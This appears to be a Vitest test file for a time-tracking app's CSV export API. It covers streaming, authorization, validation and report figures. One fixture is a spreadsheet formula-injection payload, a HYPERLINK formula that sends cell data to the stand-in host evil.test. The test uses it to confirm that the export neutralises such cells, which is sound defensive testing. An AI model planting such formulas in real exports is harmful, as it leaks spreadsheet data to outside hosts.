import { request as httpRequest } from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { timeEntries } from '../src/db/schema/index.ts';
import { makeClient, makeMember, makeProject, makeProjectUser, makeTask, makeTimeEntry } from './helpers/factories.ts';
import { send } from './helpers/http.ts';
import { startTestEnv, testClock, type TestEnv } from './helpers/env.ts';
import { makeInvoice, makePayment } from './helpers/report-factories.ts';

let env: TestEnv;
const clock = testClock('2026-11-18T10:00:00.000Z');

/** Enough entries to span several export chunks (5,000 each). */
const MANY = 12_345;
const EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"click me")';

let data: ReturnType<typeof seed>;

function seed() {
  const db = env.alpha.handle.db;
  const client = makeClient(db, { name: 'Café Müller, GmbH', currency: 'EUR' });
  const project = makeProject(db, client.id, { name: 'Relaunch "2026"', currency: 'EUR', hourlyRateMinor: 9550 });
  const task = makeTask(db, project.id, { name: 'Design' });
  const ann = makeMember(db, { firstName: 'Ann', lastName: 'Ång', email: 'ann@alpha.test' });
  const bob = makeMember(db, { firstName: 'Bob', lastName: 'B', email: 'bob@alpha.test' });
  makeProjectUser(db, project.id, ann.id);
  makeProjectUser(db, project.id, bob.id);
  const refs = (userId: string) => ({ clientId: client.id, projectId: project.id, taskId: task.id, userId });
  const insert = env.alpha.handle.sqlite.transaction(() => {
    for (let i = 0; i < MANY; i++) {
      const day = `2026-${String(1 + (i % 10)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')}`;
      makeTimeEntry(db, refs(i % 3 === 0 ? bob.id : ann.id), { recordedOn: day, seconds: 600 + (i % 50) * 60, enteredSeconds: 600, notes: `entry ${i}`, status: i % 2 ? 'billed' : 'unbilled' });
    }
  });
  insert();
  const evil = makeTimeEntry(db, refs(ann.id), { recordedOn: '2026-11-02', seconds: 3600, notes: EVIL });
  const negative = makeTimeEntry(db, refs(ann.id), { recordedOn: '2026-11-03', seconds: 1800, notes: '-5 minutes, then "done"\nsecond line' });
  const invoice = makeInvoice(db, client.id, ann.id, { currency: 'EUR', totalMinor: 123456, dueDate: '2026-10-01', number: 'INV-9' });
  makePayment(db, invoice.id, { amountMinor: 23456, paidOn: '2026-10-15', reference: '@bank' });
  return { client, project, task, ann, bob, evil, negative, invoice };
}

beforeAll(async () => {
  env = await startTestEnv({ clock });
  data = seed();
});
afterAll(() => env.close());

const download = (path: string, opts: { key?: string | null; host?: string } = {}) =>
  send(env.url, 'GET', `/api/exports/${path}`, { host: opts.host ?? env.alpha.host, key: opts.key === undefined ? env.alpha.key : opts.key });
const csv = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];

describe('GET /api/exports/<report>.csv', () => {
  it('streams every time entry of the range, in day order, as RFC 4180 CSV with accents intact', async () => {
    const res = await download('time-entries.csv?from=2026-01-01&to=2026-12-31');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="hourbook-alpha-time-entries-2026-01-01_2026-12-31.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['transfer-encoding']).toBe('chunked');
    const rows = csv(res.text);
    const stored = env.alpha.handle.db.select().from(timeEntries).all();
    expect(rows).toHaveLength(stored.length);
    expect(new Set(rows.map((r) => r.id))).toEqual(new Set(stored.map((e) => e.id)));
    const days = rows.map((r) => r.recorded_on!);
    expect(days).toEqual([...days].sort());
    const byId = new Map(stored.map((e) => [e.id, e]));
    for (const row of rows.slice(0, 500)) {
      const e = byId.get(row.id!)!;
      expect([row.seconds, row.status, row.notes, row.client, row.project, row.person]).toEqual([
        String(e.seconds),
        e.status,
        e.notes,
        'Café Müller, GmbH',
        'Relaunch "2026"',
        e.userId === data.ann.id ? 'Ann Ång' : 'Bob B',
      ]);
      // 95.50 €/h, rounded half-up per entry, as an invoice would bill it today.
      expect(row.current_amount).toBe((Number((BigInt(e.seconds) * 9550n * 2n + 3600n) / 7200n) / 100).toFixed(2));
      expect(row.current_hourly_rate).toBe('95.50');
    }
  });

  it('leaves rejected entries out unless asked for, as the time report it is downloaded beside does', async () => {
    const rejected = makeTimeEntry(env.alpha.handle.db, { clientId: data.client.id, projectId: data.project.id, taskId: data.task.id, userId: data.ann.id }, { recordedOn: '2027-01-05', seconds: 3600, status: 'rejected' });
    const ids = async (query: string) => csv((await download(`time-entries.csv?from=2027-01-01&to=2027-01-31${query}`)).text).map((r) => r.id);
    const report = await env.alpha.caller.reports.time({ from: '2027-01-01', to: '2027-01-31', by: ['client'] });
    expect(report.rows.reduce((n, r) => n + r.entries, 0)).toBe(0);
    expect(await ids('')).toEqual([]);
    expect(await ids('&status=rejected')).toEqual([rejected.id]);
  });

  it('neutralises formula cells; a note starting with - is text, a negative number would stay a number', async () => {
    const res = await download('time-entries.csv?from=2026-11-02&to=2026-11-03');
    const rows = csv(res.text);
    expect(rows.find((r) => r.id === data.evil.id)?.notes).toBe(`'${EVIL}`);
    expect(rows.find((r) => r.id === data.negative.id)?.notes).toBe(`'-5 minutes, then "done"\nsecond line`);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""click me"")"`);
  });

  it('starts with a byte order mark only when asked', async () => {
    const withBom = await download('time-entries.csv?from=2026-11-02&to=2026-11-02&bom=true');
    expect([...withBom.raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const without = await download('time-entries.csv?from=2026-11-02&to=2026-11-02');
    expect(without.text.startsWith('id,recorded_on,')).toBe(true);
  });

  it('exports each report with the figures of its procedure', async () => {
    const res = await download('time.csv?from=2026-01-01&to=2026-12-31&by=project,month');
    expect(res.status).toBe(200);
    const rows = csv(res.text);
    const report = await env.alpha.caller.reports.time({ from: '2026-01-01', to: '2026-12-31', by: ['project', 'month'] });
    expect(rows.map((r) => [r.project, r.month, Number(r.hours), r.billable_amount_EUR])).toEqual(
      report.rows.map((r) => [r.keys[0]!.label, r.keys[1]!.id, r.hours, r.amounts[0]!.billable_amount.toFixed(2)]),
    );
    const unbilled = csv((await download('unbilled.csv')).text);
    expect(unbilled).toHaveLength(1);
    expect(unbilled[0]).toMatchObject({ client: 'Café Müller, GmbH', currency: 'EUR' });
    const receivables = csv((await download('receivables.csv')).text);
    expect(receivables).toEqual([expect.objectContaining({ number: 'INV-9', total: '1234.56', paid: '234.56', balance: '1000.00', days_overdue: '48', bucket: 'days_31_60', days_31_60: '1000.00', not_due: '' })]);
    const paid = csv((await download('paid-per-month.csv')).text);
    expect(paid).toEqual([{ month: '2026-10', currency: 'EUR', payments: '1', amount: '234.56' }]);
    const util = csv((await download('utilisation.csv?from=2026-01-01&to=2026-01-31')).text);
    const utilReport = await env.alpha.caller.reports.utilisation({ from: '2026-01-01', to: '2026-01-31' });
    expect(util.map((r) => [r.person, r.week, Number(r.hours), Number(r.billable_share)])).toEqual(utilReport.rows.map((r) => [r.person.name, r.week, r.hours, r.billable_share]));
    expect(new Set(util.map((r) => r.person))).toEqual(new Set(['Ann Ång', 'Bob B']));
  });

  it('exports payments, and invoices one row per line', async () => {
    const payments = csv((await download('payments.csv?from=2026-01-01')).text);
    expect(payments).toEqual([expect.objectContaining({ invoice_number: 'INV-9', amount: '234.56', reference: "'@bank", client: 'Café Müller, GmbH' })]);
    const draft = await env.alpha.caller.reports.invoiceDraft({ client_id: data.client.id, to: '2026-01-31' });
    const created = await env.alpha.caller.invoices.create({ email: env.alpha.ownerEmail, ...draft.request, number: 'INV-10' });
    const lines = csv((await download('invoices.csv?from=2026-01-01')).text);
    const ofCreated = lines.filter((l) => l.number === 'INV-10');
    expect(ofCreated).toHaveLength(draft.entries);
    expect(ofCreated.map((l) => Number(l.line))).toEqual(ofCreated.map((_, i) => i + 1));
    expect(ofCreated.every((l) => l.total === created.invoice.total.toFixed(2) && l.currency === 'EUR' && l.line_kind === 'time_entry')).toBe(true);
    expect(lines.filter((l) => l.number === 'INV-9')).toHaveLength(0); // INV-9 has no lines
  });

  it("prints a credit note's line prices with their amounts' sign, so quantity × unit price = amount", async () => {
    const { invoice } = await env.alpha.caller.invoices.create({
      email: env.alpha.ownerEmail,
      client_id: data.client.id,
      number: 'INV-CN-1',
      total: 900,
      invoice_services: [{ notes: 'Workshop', quantity: 2, unit_amount: 450 }],
    });
    await env.alpha.caller.invoices.markSent({ email: env.alpha.ownerEmail, invoice_id: invoice.id });
    const { credit_note } = await env.alpha.caller.invoices.void({ email: env.alpha.ownerEmail, invoice_id: invoice.id });
    const lines = csv((await download('invoices.csv?from=2026-01-01')).text);
    const row = (number: string) => lines.filter((l) => l.number === number).map((l) => [l.quantity, l.unit_price, l.amount]);
    expect(row('INV-CN-1')).toEqual([['2.000', '450.00', '900.00']]);
    expect(row(credit_note!.number)).toEqual([['2.000', '-450.00', '-900.00']]);
  });

  it('authorizes like the procedure: key, workspace, acting person', async () => {
    expect((await download('time-entries.csv', { key: null })).status).toBe(401);
    expect((await download('time-entries.csv', { key: env.beta.key })).status).toBe(401);
    expect((await download('time-entries.csv', { host: 'nowhere.localhost' })).body).toMatchObject({ code: 'workspace_not_found' });
    // Beta's key on beta's host sees none of alpha's entries.
    const beta = await send(env.url, 'GET', '/api/exports/time-entries.csv?from=2026-01-01&to=2026-12-31', { host: env.beta.host, key: env.beta.key });
    expect(csv(beta.text)).toEqual([]);
    const own = csv((await download(`time-entries.csv?from=2026-01-01&to=2026-12-31&email=${encodeURIComponent(data.bob.email)}`)).text);
    expect(own.length).toBeGreaterThan(0);
    expect(own.every((r) => r.user_id === data.bob.id)).toBe(true);
    const other = await download(`time-entries.csv?email=${encodeURIComponent(data.bob.email)}&user_ids=${data.ann.id}`);
    expect([other.status, other.body?.code]).toEqual([403, 'forbidden']);
    expect((await download(`receivables.csv?email=${encodeURIComponent(data.bob.email)}`)).status).toBe(403);
    expect((await download('time.csv?by=month&email=ghost@alpha.test')).body).toMatchObject({ code: 'user_not_found' });
  });

  it('refuses bad parameters with a 422 naming them, and unknown exports with a 404', async () => {
    const cases: [string, string][] = [
      ['time.csv?by=month&from=2020-01-01&to=2026-01-01', 'to'],
      ['time.csv?by=month&from=2026-02-01&to=2026-01-01', 'from'],
      ['time.csv?by=month,fortnight', 'by.1'],
      ['time.csv?by=month&colour=red', 'colour'],
      ['time.csv?by=month&billable=yes', 'billable'],
      ['time.csv?by=month&status=done', 'status.0'],
      ['time-entries.csv?from=2026-02-31', 'from'],
      ['time.csv?by=month&by=day', 'by'],
      ['payments.csv?bom=1', 'bom'],
    ];
    for (const [path, field] of cases) {
      const res = await download(path);
      expect([path, res.status, res.body?.code]).toEqual([path, 422, 'validation_failed']);
      expect(res.body.details.map((d: { path: string }) => d.path)).toContain(field);
    }
    const unknown = await download('secrets.csv');
    expect([unknown.status, unknown.body.code]).toEqual([404, 'export_not_found']);
    expect((await download('time-entries.json')).status).toBe(404);
  });

  it('stops reading when the client goes away, and keeps serving', async () => {
    await new Promise<void>((resolve, reject) => {
      const url = new URL('/api/exports/time-entries.csv?from=2026-01-01&to=2026-12-31', env.url);
      const req = httpRequest({ hostname: url.hostname, port: url.port, path: url.pathname + url.search, headers: { host: env.alpha.host, 'x-api-key': env.alpha.key } }, (res) => {
        res.once('data', () => {
          req.destroy();
          resolve();
        });
      });
      req.on('error', (err) => (req.destroyed ? resolve() : reject(err)));
      req.end();
    });
    const next = await download('time-entries.csv?from=2026-11-02&to=2026-11-02');
    expect(next.status).toBe(200);
  });
});
